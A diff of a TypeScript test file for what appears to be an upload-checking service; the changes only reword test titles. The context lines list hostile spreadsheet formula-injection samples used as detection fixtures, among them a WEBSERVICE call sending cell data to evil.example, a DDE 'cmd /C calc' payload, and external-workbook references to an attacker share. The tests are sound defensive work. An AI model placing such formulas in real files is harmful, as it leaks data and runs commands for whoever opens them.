@@ -20,7 +20,7 @@ const RELS = 'xl/_rels/workbook.xml.rels'
 const related = (type: string, target = 'x', mode = '') =>
   `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" ${mode}/></Relationships>`
 
-test('what a buyer sends is told by its content, and stays as it is', async () => {
+test("a buyer's file is typed by its content, and stays unchanged", async () => {
   const pdf = scannedPdf()
   expect(await check(pdf)).toEqual({ type: 'pdf', bytes: pdf })
   const list = Buffer.from('Part,Quantity\nMS20470AD4-6,100\n-20,+1\n')
@@ -34,7 +34,7 @@ test('what a buyer sends is told by its content, and stays as it is', async () =
   expect(await check(sheet)).toEqual({ type: 'xlsx', bytes: sheet })
 })
 
-test('a photograph is encoded anew in its own format: what was hidden in it is gone', async () => {
+test('a photograph is re-encoded in its own format, without hidden contents', async () => {
   const jpeg = await photograph()
     .jpeg()
     .withExif({ IFD0: { Copyright: 'home address' } })
@@ -109,7 +109,7 @@ const HOSTILE: [string, () => Uint8Array | string, string][] = [
   ],
   ['a separator that the list names', () => 'sep=|\na|=WEBSERVICE("http://evil.example/"&A1)|b\n', 'ATTACHMENT_ACTIVE'],
   ['a quotation mark behind a blank', () => `x, "b,=cmd|' /C calc'!A0,c"\n`, 'ATTACHMENT_ACTIVE'],
-  ['a cell of a file elsewhere', () => "a,='\\\\evil.example\\share\\[a.xlsx]S'!A1\n", 'ATTACHMENT_ACTIVE'],
+  ['a cell of an external file', () => "a,='\\\\evil.example\\share\\[a.xlsx]S'!A1\n", 'ATTACHMENT_ACTIVE'],
   ['a cell of a file on the web', () => "='http://evil.example/[a.xlsx]S'!A1\n", 'ATTACHMENT_ACTIVE'],
   ['a cell of a file without quotes', () => '=[a.xlsx]S!A1\n', 'ATTACHMENT_ACTIVE'],
   ['a quotation that only semicolons begin', () => 'a;"b,=WEBSERVICE(A1),c"\n', 'ATTACHMENT_ACTIVE'],
